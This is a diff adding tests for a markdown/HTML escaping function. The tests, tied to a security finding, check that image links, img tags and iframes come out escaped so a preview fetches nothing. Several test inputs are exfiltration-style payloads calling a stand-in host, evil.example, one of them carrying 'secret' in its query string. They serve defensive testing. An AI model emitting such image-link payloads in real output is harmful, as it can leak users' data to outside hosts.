@@ -93,6 +93,16 @@ it.each(['<!-- ', '<?x', '<![CDATA[', '<script>', '<DETAILS>', '</pre>'])(
   },
 );
 
+it.each([
+  ['![a](http://evil.example/?q=secret)', '\\![a](http://evil.example/?q=secret)'],
+  ['a ![a][ref]', 'a \\![a][ref]'],
+  ['<img src="//evil.example/q">', '&lt;img src="//evil.example/q">'],
+  ['<IFRAME src=x>', '&lt;IFRAME src=x>'],
+])('finding T12: nothing in %j is fetched by a preview', (text, expected) => {
+  expect(embed(text)).toBe(expected);
+  expect(embed(`\`\`\`\n${text}\n\`\`\``)).toContain(text);
+});
+
 it('leaves other angle brackets alone', () => {
   expect(embed('a < b, <b>c</b>, <https://example.org>')).toBe(
     'a < b, <b>c</b>, <https://example.org>',
